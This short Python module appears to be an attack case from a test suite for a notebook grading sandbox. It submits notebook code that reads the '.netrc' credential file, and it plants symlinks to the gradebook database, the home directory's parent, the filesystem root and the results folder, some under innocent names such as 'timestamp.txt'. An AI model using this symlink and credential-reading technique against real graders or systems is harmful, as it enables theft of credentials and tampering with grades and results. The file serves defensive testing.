"""Puts links to the gradebook, the home folder and the root beside a notebook."""

from pathlib import Path

from attacks.submitting import hand_in, notebook

HONEST = 0.0


def submit(submitted, targets):
    source = "def flatten_filters(filters):\n    return ['lo' + 'ot: ' + open('home/.netrc').read()]\n"
    folder = hand_in(submitted, notebook(source))
    (folder / "gradebook.db").symlink_to(targets["gradebook"])
    (folder / "home").symlink_to(Path(targets["home"]).parent)
    (folder / "root").symlink_to("/")
    (folder / "loop").symlink_to(".")
    (folder / "timestamp.txt").symlink_to(targets["home"])
    (folder / ".ipynb_checkpoints").symlink_to(targets["results"])
